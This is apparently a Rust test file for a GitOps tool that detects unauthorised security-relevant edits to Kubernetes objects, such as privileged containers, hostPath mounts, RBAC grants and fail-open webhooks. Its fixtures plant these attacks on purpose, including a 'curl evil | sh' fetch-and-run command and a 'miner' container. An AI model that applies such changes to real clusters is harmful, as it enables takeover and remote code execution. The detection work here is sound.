//! The pass against real objects: the fixtures of `src/diff/testdata` are live objects read
//! back from the local control plane after gitopsd's apply, server defaults included.

use serde_json::{Value, json};

use super::foreign_security_fields;

fn fixture(name: &str) -> Value {
    let path = format!(
        "{}/src/diff/testdata/{name}.json",
        env!("CARGO_MANIFEST_DIR")
    );
    let text = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{path}: {e}"));
    serde_json::from_str(&text).unwrap_or_else(|e| panic!("{path}: {e}"))
}

fn found(manifest: &Value, live: &Value) -> Vec<(String, &'static str, Value)> {
    let kind = manifest["kind"].as_str().unwrap_or_default();
    foreign_security_fields(kind, manifest, live)
        .into_iter()
        .map(|f| {
            (
                f.diff.path.to_string(),
                f.entry.id,
                f.diff.live.unwrap_or(Value::Null),
            )
        })
        .collect()
}

/// The deployment fixture as applied, then `edit` as another manager would.
fn deployment_with(edit: impl FnOnce(&mut Value)) -> (Value, Value) {
    let desired = fixture("deployment-desired");
    let mut live = fixture("deployment-fresh");
    edit(&mut live);
    (desired, live)
}

fn pod_spec(v: &mut Value) -> &mut Value {
    &mut v["spec"]["template"]["spec"]
}

#[test]
fn server_defaults_of_freshly_applied_objects_are_not_foreign() {
    for name in [
        "deployment",
        "deployment-worker",
        "deployment-quantities",
        "role",
        "service",
        "networkpolicy",
        "hpa",
        "priorityclass",
        "crd",
        "featureflag",
        "secret-stringdata",
        "tier-experimental",
    ] {
        let desired = fixture(&format!("{name}-desired"));
        let live = fixture(&format!("{name}-fresh"));
        assert_eq!(found(&desired, &live), vec![], "{name}");
    }
}

#[test]
fn a_privileged_container_added_by_a_patch_is_found() {
    let (desired, live) = deployment_with(|l| {
        pod_spec(l)["containers"][0]["securityContext"]["privileged"] = json!(true);
    });
    assert_eq!(
        found(&desired, &live),
        vec![(
            "spec.template.spec.containers[name=api].securityContext.privileged".to_owned(),
            "privileged",
            json!(true)
        )]
    );
}

#[test]
fn harmless_values_are_not_foreign() {
    let (desired, live) = deployment_with(|l| {
        let c = &mut pod_spec(l)["containers"][0]["securityContext"];
        c["privileged"] = json!(false);
        c["runAsUser"] = json!(1000);
        c["seccompProfile"] = json!({"type": "RuntimeDefault"});
        c["capabilities"]["add"] = json!([]);
        pod_spec(l)["hostNetwork"] = json!(false);
    });
    assert_eq!(found(&desired, &live), vec![]);
}

#[test]
fn every_spelling_of_the_attack_is_found() {
    let (mut desired, live) = deployment_with(|l| {
        let spec = pod_spec(l);
        spec["hostNetwork"] = json!(true);
        spec["hostPID"] = json!(true);
        spec["shareProcessNamespace"] = json!(true);
        spec["securityContext"]["sysctls"] = json!([{"name": "kernel.msgmax", "value": "1"}]);
        spec["volumes"]
            .as_array_mut()
            .unwrap()
            .push(json!({"name": "root", "hostPath": {"path": "/"}}));
        spec["initContainers"] = json!([{
            "name": "init", "image": "busybox",
            "securityContext": {"capabilities": {"add": ["SYS_ADMIN"]}}
        }]);
        spec["containers"]
            .as_array_mut()
            .unwrap()
            .push(json!({"name": "miner", "image": "evil"}));
        let c = &mut spec["containers"][0];
        c["ports"][0]["hostPort"] = json!(80);
        c["envFrom"]
            .as_array_mut()
            .unwrap()
            .push(json!({"secretRef": {"name": "shop-db"}}));
        c["securityContext"]["procMount"] = json!("Unmasked");
        c["securityContext"]["seLinuxOptions"] = json!({"type": "spc_t"});
    });
    // envFrom is an atomic list: where the manifest sets one, the diff stage compares it whole.
    pod_spec(&mut desired)["containers"][0]
        .as_object_mut()
        .unwrap()
        .remove("envFrom");
    let got: Vec<(String, &str)> = found(&desired, &live)
        .into_iter()
        .map(|(p, id, _)| (p, id))
        .collect();
    let s = "spec.template.spec";
    let c = format!("{s}.containers[name=api]");
    let want: Vec<(String, &str)> = vec![
        (
            format!("{c}.securityContext.procMount"),
            "proc-mount-unmasked",
        ),
        (
            format!("{c}.securityContext.seLinuxOptions"),
            "selinux-options",
        ),
        (
            format!("{c}.ports[containerPort=8080,protocol=TCP].hostPort"),
            "host-port",
        ),
        (format!("{c}.envFrom[1]"), "env-from-secret"),
        (format!("{s}.hostNetwork"), "host-network"),
        (format!("{s}.hostPID"), "host-pid"),
        (
            format!("{s}.shareProcessNamespace"),
            "share-process-namespace",
        ),
        (format!("{s}.securityContext.sysctls"), "sysctls"),
        (format!("{s}.volumes[name=root]"), "hostpath-volume"),
        (format!("{s}.containers[name=miner]"), "container-added"),
        (
            format!("{s}.initContainers[name=init]"),
            "init-container-added",
        ),
    ];
    let mut got_sorted = got.clone();
    got_sorted.sort();
    let mut want_sorted = want.clone();
    want_sorted.sort();
    assert_eq!(got_sorted, want_sorted);
}

#[test]
fn root_is_found_at_pod_and_container_level_where_the_manifest_is_silent() {
    // The fixture's manifest sets the pod's runAsUser (10001): a changed value there is the
    // diff stage's; the container's is unset, so a foreign 0 is this pass's.
    let (desired, live) = deployment_with(|l| {
        pod_spec(l)["securityContext"]["runAsUser"] = json!(0);
        pod_spec(l)["containers"][0]["securityContext"]["runAsUser"] = json!(0);
        pod_spec(l)["containers"][0]["securityContext"]["runAsNonRoot"] = json!(false);
    });
    let got: Vec<String> = found(&desired, &live).into_iter().map(|f| f.0).collect();
    assert_eq!(
        got,
        vec!["spec.template.spec.containers[name=api].securityContext.runAsUser",],
        "runAsNonRoot is set by the manifest: ordinary drift"
    );
}

#[test]
fn a_changed_service_account_is_found_and_the_servers_copy_is_not() {
    let (desired, live) = deployment_with(|_| {});
    // The manifest sets serviceAccountName: api; the server copied it into serviceAccount.
    assert_eq!(found(&desired, &live), vec![]);
    let (_, live) = deployment_with(|l| pod_spec(l)["serviceAccount"] = json!("admin"));
    assert_eq!(
        found(&desired, &live),
        vec![(
            "spec.template.spec.serviceAccount".to_owned(),
            "service-account",
            json!("admin")
        )]
    );
    // A bare Pod's manifest without an account gets `default` from the server.
    let pod = json!({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "p"},
        "spec": {"containers": [{"name": "c", "image": "x"}]}});
    let mut live = pod.clone();
    live["spec"]["serviceAccountName"] = json!("default");
    live["spec"]["serviceAccount"] = json!("default");
    assert_eq!(found(&pod, &live), vec![]);
    live["spec"]["serviceAccountName"] = json!("ci-admin");
    assert_eq!(found(&pod, &live).len(), 1);
}

#[test]
fn a_host_port_the_server_defaults_under_host_network_is_not_foreign() {
    let (mut desired, live) = deployment_with(|l| {
        pod_spec(l)["hostNetwork"] = json!(true);
        pod_spec(l)["containers"][0]["ports"][0]["hostPort"] = json!(8080);
    });
    pod_spec(&mut desired)["hostNetwork"] = json!(true);
    assert_eq!(found(&desired, &live), vec![]);
}

#[test]
fn cronjob_and_ephemeral_containers_are_covered() {
    let manifest = json!({"apiVersion": "batch/v1", "kind": "CronJob", "metadata": {"name": "c"},
        "spec": {"schedule": "* * * * *", "jobTemplate": {"spec": {"template": {"spec": {
            "restartPolicy": "Never", "containers": [{"name": "c", "image": "x"}]}}}}}});
    let mut live = manifest.clone();
    let spec = &mut live["spec"]["jobTemplate"]["spec"]["template"]["spec"];
    spec["containers"][0]["securityContext"] = json!({"allowPrivilegeEscalation": true});
    spec["hostIPC"] = json!(true);
    let ids: Vec<&str> = found(&manifest, &live).into_iter().map(|f| f.1).collect();
    assert_eq!(ids, vec!["allow-privilege-escalation", "host-ipc"]);

    let pod = json!({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "p"},
        "spec": {"containers": [{"name": "c", "image": "x"}]}});
    let mut live = pod.clone();
    live["spec"]["ephemeralContainers"] =
        json!([{"name": "debugger", "image": "busybox", "securityContext": {"privileged": true}}]);
    let got: Vec<String> = found(&pod, &live).into_iter().map(|f| f.0).collect();
    assert_eq!(got, vec!["spec.ephemeralContainers[name=debugger]"]);
}

#[test]
fn added_rbac_rules_and_subjects_and_webhooks_are_found() {
    // Rules the manifest sets are an atomic list: the diff stage compares them whole.
    let desired = fixture("role-desired");
    let mut live = fixture("role-fresh");
    live["rules"]
        .as_array_mut()
        .unwrap()
        .push(json!({"apiGroups": [""], "resources": ["secrets"], "verbs": ["*"]}));
    assert_eq!(found(&desired, &live), vec![]);
    let owned = crate::diff::applied_fields_v1(&live, crate::diff::FIELD_MANAGER);
    let diffs = crate::diff::compare(&desired, &live, owned);
    assert_eq!(diffs.len(), 1, "{diffs:?}");
    assert_eq!(diffs[0].path.to_string(), "rules");
    // A Role whose manifest grants nothing.
    let mut empty = desired.clone();
    empty.as_object_mut().unwrap().remove("rules");
    let got = found(&empty, &live);
    assert_eq!(
        got.len(),
        3,
        "every live rule is one the manifest does not grant: {got:?}"
    );
    assert!(got.iter().all(|g| g.1 == "rbac-rule-added"), "{got:?}");

    let binding = json!({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
        "metadata": {"name": "b", "namespace": "n"},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "r"}});
    let mut live = binding.clone();
    live["subjects"] =
        json!([{"kind": "User", "name": "mallory", "apiGroup": "rbac.authorization.k8s.io"}]);
    assert_eq!(
        found(&binding, &live),
        vec![(
            "subjects[0]".to_owned(),
            "rbac-subject-added",
            json!({"kind": "User", "name": "mallory", "apiGroup": "rbac.authorization.k8s.io"})
        )]
    );

    let role = json!({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole",
        "metadata": {"name": "r"}, "rules": []});
    let mut live = role.clone();
    live["aggregationRule"] = json!({"clusterRoleSelectors": [{"matchLabels": {"x": "y"}}]});
    assert_eq!(found(&role, &live)[0].1, "rbac-aggregation");

    // An aggregated ClusterRole (as kyverno ships four): the controller fills in the rules.
    let aggregated = json!({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole",
        "metadata": {"name": "kyverno:admission-controller"},
        "aggregationRule": {"clusterRoleSelectors": [{"matchLabels": {"rbac.kyverno.io/aggregate-to-admission-controller": "true"}}]}});
    let mut live = aggregated.clone();
    live["rules"] = json!([{"apiGroups": ["apiextensions.k8s.io"], "resources": ["customresourcedefinitions"], "verbs": ["get"]}]);
    assert_eq!(found(&aggregated, &live), vec![]);

    let hooks = json!({"apiVersion": "admissionregistration.k8s.io/v1",
        "kind": "ValidatingWebhookConfiguration", "metadata": {"name": "w"},
        "webhooks": [{"name": "a.example.com", "clientConfig": {"url": "https://a"},
            "sideEffects": "None", "admissionReviewVersions": ["v1"]}]});
    let mut live = hooks.clone();
    // What the server defaults is not foreign.
    live["webhooks"][0]["failurePolicy"] = json!("Fail");
    live["webhooks"][0]["namespaceSelector"] = json!({});
    live["webhooks"][0]["timeoutSeconds"] = json!(10);
    assert_eq!(found(&hooks, &live), vec![]);
    live["webhooks"][0]["failurePolicy"] = json!("Ignore");
    live["webhooks"][0]["namespaceSelector"] = json!({"matchLabels": {"skip": "yes"}});
    live["webhooks"]
        .as_array_mut()
        .unwrap()
        .push(json!({"name": "spy.example.com", "clientConfig": {"url": "https://spy"}}));
    let ids: Vec<&str> = found(&hooks, &live).into_iter().map(|f| f.1).collect();
    assert_eq!(
        ids,
        vec![
            "webhook-added",
            "webhook-namespace-selector",
            "webhook-fail-open"
        ]
    );
}

#[test]
fn a_container_a_sidecar_injector_added_is_found_and_its_manager_named() {
    // A live object from the local cluster: `sidecar-injector` added the container `proxy`.
    let desired = fixture("deployment-desired");
    let live = fixture("deployment-container-added");
    let got = foreign_security_fields("Deployment", &desired, &live);
    let paths: Vec<String> = got.iter().map(|f| f.diff.path.to_string()).collect();
    assert_eq!(paths, vec!["spec.template.spec.containers[name=proxy]"]);
    assert_eq!(got[0].entry.id, "container-added");
    assert_eq!(
        crate::diff::last_writer(&live, &got[0].diff.path).as_deref(),
        Some("sidecar-injector")
    );
}

#[test]
fn code_run_by_other_means_and_a_swapped_volume_are_found() {
    let (desired, live) = deployment_with(|l| {
        let spec = pod_spec(l);
        // `$retainKeys` can turn the manifest's emptyDir volume into a hostPath.
        spec["volumes"][0] = json!({"name": "tmp", "hostPath": {"path": "/etc"}});
        let c = &mut spec["containers"][0];
        c["command"] = json!(["sh", "-c", "curl evil | sh"]);
        c["lifecycle"] = json!({"postStart": {"exec": {"command": ["sh"]}}});
        c["livenessProbe"]["exec"] = json!({"command": ["sh"]});
    });
    let got: Vec<(String, &str)> = found(&desired, &live)
        .into_iter()
        .map(|(p, id, _)| (p, id))
        .collect();
    let s = "spec.template.spec";
    let c = format!("{s}.containers[name=api]");
    assert_eq!(
        got,
        vec![
            (format!("{c}.command"), "command-added"),
            (format!("{c}.lifecycle"), "lifecycle-hook"),
            (format!("{c}.livenessProbe.exec"), "probe-exec"),
            (
                format!("{s}.volumes[name=tmp].hostPath"),
                "hostpath-volume-swapped"
            ),
        ]
    );
}

#[test]
fn a_namespace_relabelled_privileged_is_found() {
    let manifest = json!({"apiVersion": "v1", "kind": "Namespace",
        "metadata": {"name": "shop", "labels": {"team": "web"}}});
    let mut live = manifest.clone();
    live["metadata"]["labels"]["kubernetes.io/metadata.name"] = json!("shop");
    assert_eq!(found(&manifest, &live), vec![]);
    live["metadata"]["labels"]["pod-security.kubernetes.io/enforce"] = json!("privileged");
    assert_eq!(
        found(&manifest, &live),
        vec![(
            "metadata.labels.pod-security.kubernetes.io/enforce".to_owned(),
            "pod-security-privileged",
            json!("privileged")
        )]
    );
}

#[test]
fn exposure_and_admission_policy_loopholes_are_found() {
    let mut svc = fixture("service-desired");
    let mut live = fixture("service-fresh");
    // A manifest that leaves the type to the server's default.
    svc["spec"].as_object_mut().unwrap().remove("type");
    assert_eq!(
        found(&svc, &live),
        vec![],
        "the defaulted ClusterIP is not foreign"
    );
    live["spec"]["externalIPs"] = json!(["10.0.0.1"]);
    live["spec"]["type"] = json!("NodePort");
    let ids: Vec<&str> = found(&svc, &live).into_iter().map(|f| f.1).collect();
    assert_eq!(ids, vec!["service-external-ips", "service-exposed"]);

    let np = json!({"apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy",
        "metadata": {"name": "deny"}, "spec": {"podSelector": {}, "policyTypes": ["Ingress"]}});
    let mut live = np.clone();
    live["spec"]["ingress"] = json!([{}]);
    assert_eq!(
        found(&np, &live),
        vec![(
            "spec.ingress[0]".to_owned(),
            "network-policy-rule-added",
            json!({})
        )]
    );

    let binding = json!({"apiVersion": "admissionregistration.k8s.io/v1",
        "kind": "ValidatingAdmissionPolicyBinding", "metadata": {"name": "b"},
        "spec": {"policyName": "p", "validationActions": ["Deny"]}});
    let mut live = binding.clone();
    live["spec"]["matchResources"] = json!({"excludeResourceRules": [{"resources": ["pods"]}]});
    assert_eq!(found(&binding, &live)[0].1, "admission-policy-exclusion");
}

#[test]
fn a_custom_resource_with_a_pod_template_is_covered_and_secrets_and_tokens_too() {
    let rollout = json!({"apiVersion": "argoproj.io/v1alpha1", "kind": "Rollout",
        "metadata": {"name": "r"},
        "spec": {"template": {"spec": {"containers": [{"name": "c", "image": "x"}]}}}});
    let mut live = rollout.clone();
    let spec = &mut live["spec"]["template"]["spec"];
    spec["containers"][0]["securityContext"] = json!({"privileged": true});
    spec["automountServiceAccountToken"] = json!(true);
    spec["volumes"] = json!([{"name": "db", "secret": {"secretName": "prod-db"}}]);
    let ids: Vec<&str> = found(&rollout, &live).into_iter().map(|f| f.1).collect();
    assert_eq!(ids, vec!["privileged", "secret-volume", "automount-token"]);
}

#[test]
fn the_mount_of_an_added_host_path_volume_goes_with_it() {
    let (desired, live) = deployment_with(|l| {
        let spec = pod_spec(l);
        spec["volumes"]
            .as_array_mut()
            .unwrap()
            .push(json!({"name": "host", "hostPath": {"path": "/var/run"}}));
        spec["containers"][0]["volumeMounts"]
            .as_array_mut()
            .unwrap()
            .push(json!({"name": "host", "mountPath": "/host"}));
    });
    let got: Vec<(String, &str)> = found(&desired, &live)
        .into_iter()
        .map(|(p, id, _)| (p, id))
        .collect();
    let s = "spec.template.spec";
    assert_eq!(
        got,
        vec![
            (format!("{s}.volumes[name=host]"), "hostpath-volume"),
            (
                format!("{s}.containers[name=api].volumeMounts[mountPath=/host]"),
                "hostpath-volume"
            ),
        ]
    );
    // Both go in one patch, valid as a whole.
    let paths: Vec<_> = foreign_security_fields("Deployment", &desired, &live)
        .into_iter()
        .map(|f| f.diff.path)
        .collect();
    let ops = crate::apply::removal_patch(&live, &paths).unwrap();
    let patch: json_patch::Patch = serde_json::from_value(Value::Array(ops)).unwrap();
    let mut patched = live.clone();
    json_patch::patch(&mut patched, &patch).unwrap();
    assert_eq!(patched, fixture("deployment-fresh"));
}
